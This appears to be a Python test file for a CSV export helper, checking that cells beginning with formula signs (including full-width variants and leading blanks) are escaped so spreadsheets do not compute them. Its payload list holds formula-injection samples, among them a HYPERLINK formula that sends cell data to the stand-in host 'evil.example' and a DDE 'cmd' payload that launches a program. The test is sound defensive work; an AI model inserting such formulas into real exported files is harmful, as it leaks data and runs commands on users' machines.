import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from afterword.core.csv_cells import cell, lines, value_of
from afterword.core.text import clean_text

SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63"]
FORMULAS = [
    "1+1",
    'HYPERLINK("http://evil.example/?"&A1,"look")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)*2",
]
BLANKS = [" ", "\t", "\r", "\n", "\0", "\xa0", "\u3000", "\ufeff", "\u200b", "\r\n", "  \t "]
PAYLOADS = [
    *(f"{sign}{formula}" for sign in SIGNS for formula in FORMULAS),
    *(f"{blank}=1+1" for blank in BLANKS),
    *(f"{blank}x" for blank in "\t\r\n\0"),
    "-",
    "+",
    "=",
    "@",
    "-5.3.1",
    "-5+3",
    "+420 777 123 456",
    "-\u0661",
]


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_computes(payload):
    [[read]] = csv.reader(io.StringIO(lines([[payload]]), newline=""))

    assert read == f"'{payload}".replace("\0", "\ufffd")


@pytest.mark.parametrize(
    "text", ["-5.3", "-5", "0", "1.5", "-5,3", "", "a=b", "ann@example.com", "5 - 3", "(=)", "🙂"]
)
def test_numbers_and_plain_texts_stay_as_they_are(text):
    assert cell(text) == text


def test_values_are_written_for_programs():
    at = datetime(2026, 11, 1, 13, 0, tzinfo=timezone(timedelta(hours=1)))

    assert cell(None) == ""
    assert cell(-5.3) == "-5.3"
    assert cell(at) == "2026-11-01T12:00:00Z"
    assert cell(at.astimezone(UTC)) == "2026-11-01T12:00:00Z"
    assert cell(["=a", "b"]) == "'=a, b"


def test_quotes_commas_and_line_ends_stay_in_their_cell():
    row = ['say "hi"', "a,b", "one\ntwo", "c;d"]

    assert list(csv.reader(io.StringIO(lines([row, row]), newline=""))) == [row, row]


@given(st.text())
def test_any_text_can_be_read_back(text):
    [[read, end]] = csv.reader(io.StringIO(lines([[text, "end"]]), newline=""))

    assert end == "end"
    assert read == cell(text)
    assert not read or read[0] not in "=+@\t\r\n\0"


@given(st.text())
@example("'=1+1")
@example("''=1+1")
def test_what_was_written_is_read_back_as_it_was(text):
    kept = clean_text(text)  # as the database holds it

    assert value_of(cell(kept)) == kept
